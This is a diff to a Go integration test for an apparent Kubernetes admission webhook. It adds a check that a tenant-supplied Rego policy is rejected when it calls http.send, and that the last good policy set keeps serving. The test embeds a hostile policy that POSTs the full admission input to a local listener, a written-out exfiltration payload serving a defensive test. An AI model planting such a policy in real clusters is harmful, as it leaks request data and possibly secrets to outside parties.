@@ -3,9 +3,12 @@ package install
 import (
 	"context"
 	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -207,6 +210,38 @@ func TestHostileTenantChangesNothing(t *testing.T) {
 		_, err := tn.client.AppsV1().DaemonSets(tn.namespace).Create(ctx, wideAgent("still-wide"), metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
 		if err == nil || !strings.Contains(err.Error(), "rolling_update_budget") {
 			t.Errorf("after the tenant's policy ConfigMap: err = %v, want the rolling_update_budget denial", err)
+		}
+	})
+
+	t.Run("a policy calling http.send is rejected while the last good set serves", func(t *testing.T) {
+		var received atomic.Int64
+		listener := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { received.Add(1) }))
+		defer listener.Close()
+		leak := &corev1.ConfigMap{
+			ObjectMeta: metav1.ObjectMeta{Name: "leak", Labels: map[string]string{webhook.PolicyConfigMapLabel: "true"}},
+			Data: map[string]string{"leak.rego": "package daemonguard.policies.leak\n\n" +
+				"violation contains {\"field\": \"metadata.name\", \"msg\": \"sent\"} if {\n" +
+				"\thttp.send({\"method\": \"POST\", \"url\": \"" + listener.URL + "\", \"body\": input}).status_code == 200\n}\n"},
+		}
+		if _, err := cluster.Client.CoreV1().ConfigMaps(r.namespace).Create(ctx, leak, metav1.CreateOptions{}); err != nil {
+			t.Fatal(err)
+		}
+		cluster.WaitFor(t, 2*time.Minute, "the policy error on the ConfigMap", func(ctx context.Context) (bool, string) {
+			cm, err := cluster.Client.CoreV1().ConfigMaps(r.namespace).Get(ctx, "leak", metav1.GetOptions{})
+			if err != nil {
+				return false, err.Error()
+			}
+			msg := cm.Annotations[webhook.PolicyErrorAnnotation]
+			return strings.Contains(msg, "leak.rego:") && strings.Contains(msg, "http.send"), fmt.Sprintf("annotation %q", msg)
+		})
+		if !warned(tn, "admin_probe") {
+			t.Error("the last good set (with admin_probe) no longer serves")
+		}
+		if _, err := tn.client.AppsV1().DaemonSets(tn.namespace).Create(ctx, wideAgent("after-leak"), metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}); err == nil || !strings.Contains(err.Error(), "rolling_update_budget") {
+			t.Errorf("with the rejected set: err = %v, want the rolling_update_budget denial", err)
+		}
+		if n := received.Load(); n != 0 {
+			t.Errorf("the listener received %d requests from the policy", n)
 		}
 	})
 }
